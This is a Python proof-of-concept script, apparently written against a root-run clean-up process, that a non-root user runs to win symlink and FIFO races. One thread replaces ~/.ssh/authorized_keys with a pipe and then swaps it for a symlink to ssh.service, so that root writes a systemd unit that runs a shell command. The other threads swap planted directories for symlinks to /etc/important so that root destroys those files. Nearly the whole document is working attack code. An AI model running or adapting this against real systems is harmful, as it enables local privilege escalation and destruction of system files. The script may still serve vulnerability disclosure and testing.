# What a user who is not root does to a bake, while root cleans up: misuse.py PUBLIC-KEY [DIRECTORY]
#
# It makes root write a unit file of the user's choice, by a pipe in place of authorized_keys that becomes a link; and it
# makes root destroy files, by a directory that becomes a link. Both need to happen within the clean-up.
import os
import sys
import threading
import time

UNIT = "[Service]\nExecStart=/bin/sh -c 'id >/owned'\n# %s\n" % sys.argv[1]
os.chdir(os.path.expanduser("~"))


def write_as_root():
    os.mkdir(".ssh", 0o700)
    os.mkfifo(".ssh/authorized_keys")
    with open(".ssh/authorized_keys", "w") as pipe:  # until root reads it
        pipe.write(UNIT)
        os.symlink("/lib/systemd/system/ssh.service", ".ssh/x")
        os.rename(".ssh/x", ".ssh/authorized_keys")


def destroy_as_root(top):
    os.makedirs(top + "/big")
    for n in range(8):
        os.makedirs("%s/d%d" % (top, n))
        with open("%s/big/%d" % (top, n), "wb") as f:
            f.write(b"x" * (10 << 20))
        for name in "policy.conf", "rules":
            open("%s/d%d/%s" % (top, n, name), "w").close()
    while True:
        try:
            for n in range(8):
                with open("%s/big/%d" % (top, n), "rb") as f:
                    assert f.read(1) == b"x"
        except (OSError, AssertionError):
            for n in range(8):
                os.rename("%s/d%d" % (top, n), "%s/e%d" % (top, n))
                os.symlink("/etc/important", "%s/d%d" % (top, n))
            return


# Another user's and root's files, by a directory that is a link.
if len(sys.argv) > 2:
    os.symlink(sys.argv[2], ".ssh")
else:
    threading.Thread(target=write_as_root, daemon=True).start()
threading.Thread(target=destroy_as_root, args=["/tmp/%d" % os.getpid()], daemon=True).start()
threading.Thread(target=destroy_as_root, args=[os.getcwd() + "/.x_history"], daemon=True).start()
print("begun", flush=True)
time.sleep(1000)
